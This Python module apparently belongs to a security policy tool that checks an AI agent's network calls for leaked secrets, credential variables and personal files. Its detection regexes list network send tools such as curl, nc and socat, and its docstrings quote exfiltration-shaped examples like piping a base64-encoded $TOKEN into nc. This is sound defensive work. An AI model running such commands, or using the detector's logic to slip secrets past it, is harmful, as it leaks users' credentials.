"""What a call sends to a host: what its data comes from, and whether that is a secret or was made of one.

Owns the words in `HostFacts.carries`; which values of secret files that no one has read are recognized in what is sent; and
where in a text a variable whose name promises a secret counts as data (`curl -d "$API_KEY" HOST`). Must not know how data
moves within a call (`taint.origins` does), what of it is compared with what was read (`payload`), nor what follows.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Callable, Iterable, Iterator, Mapping
from fnmatch import fnmatchcase
from itertools import islice, pairwise

import msgspec
import orjson

from tallystick.catalog.loading import Entry, load
from tallystick.intent.shell.names import canonical
from tallystick.intent.tools.arguments import strings
from tallystick.model.intent import Domain, Intent, Operation
from tallystick.model.pattern import pattern_of
from tallystick.policy.calls.legitimate_use import in_use
from tallystick.policy.calls.reading import CallReading
from tallystick.policy.kinds import Named, kinds_of
from tallystick.policy.network.hosts import HostFacts, host_of
from tallystick.policy.network.payload import compare, takes_all
from tallystick.policy.risks.environments import is_secret_variable
from tallystick.policy.settings import Settings
from tallystick.policy.taint.origins import Origins
from tallystick.policy.world import Content, Leaving, Trust, World

_VALUE = pattern_of(r"[A-Za-z0-9]{16,400}")
_MIXED = pattern_of(r"[0-9][A-Za-z]{1,400}[0-9]")
"""Digits among letters: no name with a year or a number at its end."""
_LIKELY = pattern_of(r"[A-Za-z0-9+]{16,400}")
_MOST_FILES = 12
_MOST_VALUES = 200
_MOST_COMPARED = 64 << 10
_MOST_LIKELY = 200


def may_betray(text: str) -> bool:
    """Whether a text has anything that could be such a value. Most have not, and no file is opened for them."""
    return any(_is_value(found[0]) for found in islice(_LIKELY.finditer(text[:_MOST_COMPARED]), _MOST_LIKELY))


def betrayed(text: str, secrets: Iterator[str], world: World) -> Iterator[str]:
    """The files that no one read of which a value is in a text: as it is, backwards, in base64 or in hexadecimal."""
    shown = text[:_MOST_COMPARED]
    lower = shown.lower()
    for path in islice(secrets, _MOST_FILES):
        found = world.content(path)
        held = ""
        if isinstance(found, Content):
            held = found.text[:_MOST_COMPARED]
        values = (one[0] for one in _VALUE.finditer(held) if _is_value(one[0]))
        if any(_stands(value, shown, lower) for value in islice(dict.fromkeys(values), _MOST_VALUES)):
            yield path


def _is_value(text: str) -> bool:
    return _MIXED.search(text) is not None


def _stands(value: str, text: str, lower: str) -> bool:
    raw = value.encode("ascii")
    coded = base64.b64encode(raw).decode("ascii").rstrip("=")[:-1]  # the last letter depends on what comes after
    return value in text or value[::-1] in text or coded in text or raw.hex() in lower


_UNSEEN = pattern_of("[\0-\x08\x0b\x0c\x0e-\x1f\x7f\xad\u200b-\u200f\u2060-\u2064\ufeff]")
_MOST_SENT = 64 << 10
_MOST_SENDERS, _MOST_SENT_WORDS, _MOST_STAGES = 50, 200, 6
_NAME = r"([A-Za-z_][A-Za-z0-9_]{0,80})"
_SENDER = pattern_of(
    r"(?<![^\s;&|(`{\"'])(curl|wget2?|xhs?|https?|curlie|n(?:c|cat|etcat)|socat|telnet|nslookup|dig|host|ping|mailx?|sendmail)\s"
)
_QUOTED = r"\"(?:[^\"\\]|\\.){0,4000}\"?|'[^'\n]{0,4000}'?"
_WORD = pattern_of(rf"[ \t]*(<<<)?[ \t]*((?:{_QUOTED}|\\.|[^ \t\r\n\"'\\;|&<>()`]){{1,200}})", re.DOTALL)
_VARIABLE = pattern_of(rf"\$\{{?{_NAME}")
_SET = pattern_of(rf"(?<![\w$]){_NAME}=[\"']?\$\{{?{_NAME}")
_LOGIN_OPTION = pattern_of(
    r"-[a-zA-Z]{0,8}[ubUEK]|-a|-A|--(?:user|proxy(?:-\w+)?|cookie|oauth2-bearer|aws-sigv4|cert|key|pass|config|"
    r"(?:http-|ftp-)?(?:user|password)|auth(?:-type)?)"
)
_LOGIN_WORD = pattern_of(r"-[uU]\S.*|--(?:user|oauth2-bearer|(?:http-|ftp-)?password|auth|cookie)=.*", re.DOTALL)
_DATA_OPTION = pattern_of(r"-[a-zA-Z]{0,8}[dF]|--(?:data|form|json|post-data|body-data|url-query)[\w-]{0,20}")
_HEADER = pattern_of(r"(?:-H|--header=)?[\"']?([A-Za-z][\w-]{0,60}):(?!//)")
_MEANT = pattern_of(r"auth|token|key|secret|cookie|session|pass|signature|cred", re.IGNORECASE)
_USER_OF_URL = pattern_of(r"://[^/\s?#]{0,500}@")
_WHOLE = pattern_of(r"\"?\$\{?[A-Za-z_][A-Za-z0-9_]{0,80}\}?(?=[/?\":]|\Z)")
_PRINTED = pattern_of(r"(?<![\w$./-])(?:echo|printf|print)\s([^\n;|&<>]{1,500})((?:\|[^\n;|&<>]{1,300}){1,6})")
_STAGE = pattern_of(r"\|\s*(?:sudo\s+)?([\w.-]{1,40})")
_GETS = (
    r"(?:os\.environ(?:\.get\(|\[)|os\.getenv\(|getenv\(|ENV(?:\.fetch\(|\[)|\$ENV\{|process\.env(?:\.|\[))"
    rf"\s?\\?[\"']?{_NAME}"
)
_IN_CODE = pattern_of(
    rf"(?:\b(?:data|json|body|params|files|content)\s?[=:]|://[^ \t\r\n\"'`]{{3,300}}+[\"'`]\s?[+%])[^,;)\n]{{0,80}}?{_GETS}"
    rf"|://[^ \t\r\n\"'`]{{3,300}}?\$?\{{{_GETS}"
)
_GENERAL_WORDS = """
api key token access secret bot auth url app my test dev prod ci user password passwd pass db id client private public service
account master webhook credential credentials database signing encryption admin root session the web
"""
_GENERAL = frozenset(_GENERAL_WORDS.split())
_CALLED = {
    "gh": "github",
    "aws": "amazonaws",
    "gcp": "googleapis",
    "hf": "huggingface",
    "npm": "npmjs",
    "do": "digitalocean",
}


def variables_sent(texts: Iterable[str]) -> tuple[str, ...]:
    """The names of variables in what these texts send as data, in an address, or as a name to look up."""
    found: dict[str, None] = {}
    for text in texts:
        text = text[:_MOST_SENT]
        if "$" in text:
            others = {other: name for other, name in _SET.findall(text) if is_secret_variable(name)}
            for name in (*_by_senders(text, _data_of), *_by_pipes(text)):
                name = others.get(name, name)
                if is_secret_variable(name):
                    found[name] = None
        if "env" in text.lower():
            names = (next(filter(None, match.groups())) for match in _IN_CODE.finditer(text))
            found.update((name, None) for name in names if is_secret_variable(name))
    return tuple(found)


def is_meant_for(name: str, host: str) -> bool:
    """Whether a variable is for a host by its name: `OPENAI_API_KEY` for `api.openai.com`."""
    labels = host.split(".")
    owner = host
    if len(labels) > 1:
        owner = labels[-2]
    if owner in ("co", "com", "ac", "gov", "org", "net") and len(labels) > 2:
        owner = labels[-3]
    words = (word for word in name.lower().split("_") if len(word) > 1 and word not in _GENERAL)
    return any(
        owner == _CALLED.get(word, word) or (len(word) > 3 and owner.isalpha() and owner.startswith(word))
        for word in words
    )


class _Facts(Entry, frozen=True):
    """Facts of catalog/variable_vendors.toml."""

    vendors: Mapping[str, str]


_VENDORS = {name: tuple(parts.split()) for name, parts in load("variable_vendors", _Facts).vendors.items()}


def logins_sent(texts: Iterable[str]) -> tuple[str, ...]:
    """The names of variables of one vendor by which these texts log in somewhere."""
    names = (name for text in texts if "$" in text for name in _by_senders(text[:_MOST_SENT], _login_of))
    return tuple(dict.fromkeys(name for name in names if is_secret_variable(name) and _vendor_of(name)))


def is_of_vendor(name: str, host: str) -> bool:
    """Whether a host may be one where a variable of a vendor logs in, by its name."""
    return any(part in host for part in _vendor_of(name))


def _vendor_of(name: str) -> tuple[str, ...]:
    return _VENDORS.get(name.partition("_")[0], ())


def _by_senders(text: str, part: Callable[[str, str], str]) -> Iterator[str]:
    for sender, _ in zip(_SENDER.finditer(text), range(_MOST_SENDERS), strict=False):
        before, at = "", sender.end()
        for _ in range(_MOST_SENT_WORDS):
            match = _WORD.match(text, at)
            if match is None:
                break
            at, word = match.end(), match[2]
            yield from _VARIABLE.findall(word if match[1] else part(word, before))
            before = word


def _login_of(word: str, before: str) -> str:
    """What of a word logs in."""
    header = _HEADER.match(word)
    is_header = header is not None and not _DATA_OPTION.fullmatch(before) and _MEANT.search(header[1]) is not None
    is_login = is_header or _LOGIN_WORD.fullmatch(word) or _LOGIN_OPTION.fullmatch(before)
    return word if is_login and not word.startswith("'") else ""


def _data_of(word: str, before: str) -> str:
    """What of a word is sent as data: neither what logs in, nor a variable that is the whole address."""
    if word.startswith("'") or _login_of(word, before):
        return ""
    word = _USER_OF_URL.sub("://", word)
    place = _WHOLE.match(word)
    if place is None or _DATA_OPTION.fullmatch(before):
        return word
    return word[place.end() :]


def _by_pipes(text: str) -> Iterator[str]:
    """What is printed into a program that sends: `echo $TOKEN | base64 | nc HOST 80`."""
    for printed in _PRINTED.finditer(text):
        stages = [match[1] for match, _ in zip(_STAGE.finditer(printed[2]), range(_MOST_STAGES), strict=False)]
        if any(_SENDER.match(f"{stage} ") for stage in stages):
            yield from _VARIABLE.findall(printed[1])


CARRIES: dict[str, str] = {
    "secret": "the content of a file that holds secrets",
    "sensitive": "what may be a credential or was made of a secret, or text in which one stands",
    "personal": "a folder of the user's home folder as a whole: documents, pictures, settings",
    "untrusted": "what came from outside",
    "read-value": "a value that the session read, in whatever encoding",
}
"""Every word and what it means."""

_FOR_ANYTHING = frozenset(("allowed", "bare", "private"))
"""Hosts that a variable may be for whatever its name is: the user's own."""
_NEAR = frozenset(("local", "metadata"))
_OWN = _FOR_ANYTHING | {"registry", "service"}
_BUCKETS = frozenset(("s3", "gs", "az", "r2", "b2", "oss"))
_MOST_ORIGINS = 50
_MOST_BELOW = 5
_MOST_WORDS = 100
_MOST_TEXT = 64 << 10
_OF_USER = frozenset(("clipboard:", "screen:", "history:"))
"""What is the user's and lies in no file: no one knows what is in it."""
_OUT = (Operation.SEND, Operation.CONNECT)


class Egress:
    """What goes out in one call."""

    def __init__(self, reading: CallReading, world: World, settings: Settings, real: Callable[[str], str]) -> None:
        """`real` gives a path without links."""
        self._reading = reading
        self._world = world
        self._settings = settings
        self._real = real
        self._origins: Origins | None = None
        self._texts: dict[str, bool] = {}
        self._values: tuple[str, ...] | None = None
        self._in_use: frozenset[str] | None = None
        self._sent: tuple[str, ...] | None = None

    def host(self, intent: Intent) -> HostFacts:
        """The host of an intent, with what goes there in this call."""
        host = host_of(intent.target, self._settings)
        if host.kinds & _NEAR or intent.operation is Operation.LISTEN:
            return host
        carries: dict[str, None] = {}
        evidence: list[str] = []
        for word, path in self._carried(intent):
            carries[word] = None
            evidence.append(f"{word}: {path}")
        if self._says_secret(intent):
            carries["sensitive"] = None
            evidence.append("sensitive: a secret stands in the text of the call")
        for path in self._betrayed(intent):
            carries["sensitive"] = None
            evidence.append(f"sensitive: a value of {path} stands in the call")
        for name in self._variables():
            if host.kinds.isdisjoint(_FOR_ANYTHING) and not is_meant_for(name, host.host):
                carries["sensitive"] = None
                evidence.append(f"sensitive: the variable {name}")
        for name in logins_sent(self._reading.texts) if host.kinds.isdisjoint(_FOR_ANYTHING) else ():
            if not is_of_vendor(name, host.host):
                carries["sensitive"] = None
                evidence.append(f"sensitive: {name} logs in elsewhere")
        past = self._world.past()
        evidence += [f"read before: {what}" for what in past.sensitive[-3:]]
        host = msgspec.structs.replace(
            host,
            carries=frozenset(carries),
            is_approved=host.host in past.hosts,
            evidence=tuple(dict.fromkeys(evidence))[:8],
        )
        return host if past.leaving is None else self._compared(host, intent, past.leaving)

    def _compared(self, host: HostFacts, intent: Intent, leaving: Leaving) -> HostFacts:
        """The same with what is known of all that goes there, after a secret was read."""
        files = (one for one in self._leaving(intent) if one.target not in self._used() and one.domain is Domain.FILE)
        found = compare(self._reading, intent, files, leaving)
        read = [f"read-value: read in {step}" for step in found.steps if step[0] != "?"]
        said = [f"sensitive: it holds what was said in {step[1:]}" for step in found.steps if step[0] == "?"]
        words = {each.partition(":")[0] for each in (*read, *said)}
        return msgspec.structs.replace(
            host,
            carries=host.carries | words,
            payload="known" if found.is_known else "unknown",
            is_own=found.is_known or self._is_own(host, leaving),
            evidence=(*read, *said, *host.evidence)[:8],
        )

    def _is_own(self, host: HostFacts, leaving: Leaving) -> bool:
        """Whether a host is one of the user's or of the project. It is asked only where that matters."""
        if host.kinds & _OWN and host.scheme not in _BUCKETS:
            return True
        folder = self._reading.workspace or self._reading.folder
        return folder is not None and leaving.is_own(folder, host.host)

    def _leaving(self, intent: Intent) -> Iterator[Intent]:
        """The files that go there."""
        effects = self._reading.effects
        if not any(one.domain is Domain.FILE for one in effects.intents):
            return
        if self._origins is None:
            self._origins = Origins(effects)
        same = (intent.operation, intent.target)
        seen: set[str] = set()
        for k, one in enumerate(effects.intents):
            if (one.operation, one.target) == same:
                for origin in self._origins.leaving(k):
                    if origin.target not in seen and len(seen) < _MOST_ORIGINS:
                        seen.add(origin.target)
                        yield origin

    def _carried(self, intent: Intent) -> Iterator[tuple[str, str]]:
        """What goes there, in a word, and the path that it comes from."""
        for origin in self._leaving(intent):
            yield from self._told_of(origin)

    def _told_of(self, origin: Intent) -> Iterator[tuple[str, str]]:
        path = origin.target
        if path.rpartition("/")[2] in _OF_USER:
            yield "sensitive", path.rpartition("/")[2]
        if path in self._used():
            return
        kinds = self._kinds(origin)
        if "secret" in kinds:
            yield "secret", path
        elif kinds & {"credential", "holds-secrets", "environment"}:
            yield "sensitive", path
        if takes_all(origin, self._reading):
            yield from (("personal", path) for kind in kinds if kind == "personal")
            below = secrets_below(path, self._reading, self._world, self._settings)
            yield from (("sensitive", one) for one in below)
        if origin.is_known and not origin.is_pattern and path.startswith("/"):
            past = self._world.provenance(self._real(path))
            if past.is_sensitive:
                heard = self._world.past().heard
                if heard is not None:
                    way = heard.taint(self._real(path)).sources
                else:
                    way = past.evidence
                steps = [step for step in past.evidence if step not in way]
                yield "sensitive", " ".join((path, *steps))
                yield from (("sensitive", f"< {source}") for source in way)
            if past.trust is Trust.UNTRUSTED:
                yield "untrusted", path

    def _used(self) -> frozenset[str]:
        """Keys to log in with and similar: they do not go along."""
        if self._in_use is None:
            self._in_use = in_use(self._reading)
        return self._in_use

    def _kinds(self, origin: Intent) -> frozenset[str]:
        path = origin.target
        named = Named(
            path=path,
            real=self._real(path) if origin.is_known and path.startswith("/") else path,
            home=self._reading.home,
            workspace=self._reading.workspace,
            is_known=origin.is_known,
            is_pattern=origin.is_pattern,
            is_deep=origin.is_deep,
        )
        return kinds_of(named, self._settings)

    def _says_secret(self, intent: Intent) -> bool:
        """Whether a secret is in what is sent: in a URL that is asked, or in the words of a call that sends."""
        if intent.operation not in _OUT:
            return "?" in intent.target and self._holds(intent.target)
        return self._holds(self._arguments()) or self._holds(self._said())

    def _betrayed(self, intent: Intent) -> tuple[str, ...]:
        """The files of secrets of which a value is in the call."""
        if self._values is None:
            text = f"{intent.target}\n{self._arguments()}"
            self._values = ()
            if may_betray(text):
                root = self._reading.workspace
                if root:
                    own = secrets_below(root, self._reading, self._world, self._settings)
                    self._values = tuple(betrayed(text, own, self._world))
        return self._values

    def _variables(self) -> tuple[str, ...]:
        """Variables that promise a secret, in what is sent."""
        if self._sent is None:
            self._sent = variables_sent(self._reading.texts)
        return self._sent

    def _said(self) -> str:
        """The texts of a call that has an odd character, as who gets them sees them; an encoding would hide it."""
        said = "\n".join(text for _, text in islice(strings(self._reading.call.args), _MOST_SENDERS))
        return said[:_MOST_TEXT] if _UNSEEN.search(said) else ""

    def _arguments(self) -> str:
        if self._reading.texts:
            return "\n".join(self._reading.texts)[:_MOST_TEXT]
        try:
            return orjson.dumps(self._reading.call.args)[:_MOST_TEXT].decode("utf-8", "replace")
        except (TypeError, ValueError):
            return ""

    def _holds(self, text: str) -> bool:
        if text not in self._texts:
            bare = _UNSEEN.sub("", text)  # who gets it sees the secret whole
            self._texts[text] = any(map(self._world.has_secret, dict.fromkeys((text, bare))))
        return self._texts[text]


def secrets_below(folder: str, reading: CallReading, world: World, settings: Settings) -> Iterator[str]:
    """A few paths below a folder that are secrets by their names, two folders deep, and that the call does not leave out."""
    found = 0
    excluded = _excluded(reading)
    for pattern in ("*", ".*", "*/*"):
        for path in world.matches(f"{folder.rstrip('/')}/{pattern}"):
            inner = path[len(folder.rstrip("/")) + 1 :]
            if any(_is_excluded(inner, one) for one in excluded):
                continue
            named = Named(path=path, real=path, home=reading.home, workspace=reading.workspace)
            if kinds_of(named, settings) & {"secret", "credential"}:
                yield path
                found += 1
                if found >= _MOST_BELOW:
                    return


def _excluded(reading: CallReading) -> list[str]:
    """Patterns of what copying and packing leaves out: `--exclude=.env`, `zip … -x '*.key'`."""
    found: list[str] = []
    for script in reading.scripts:
        for command in script.commands[:_MOST_ORIGINS]:
            words = [word.plain for word in command.words[:_MOST_WORDS]]
            found += [word.partition("=")[2] for word in words if word.startswith("--exclude=")]
            found += [after for option, after in pairwise(words) if option == "--exclude"]
            if words and canonical(words[0]) == "zip" and "-x" in words:
                found += words[words.index("-x") + 1 :]
    return [pattern.removeprefix("./").strip("/") for pattern in found[:_MOST_ORIGINS] if pattern.strip("./")]


def _is_excluded(path: str, pattern: str) -> bool:
    names = (path, *path.split("/"))
    return any(fnmatchcase(name, pattern.removesuffix("/*")) for name in names)
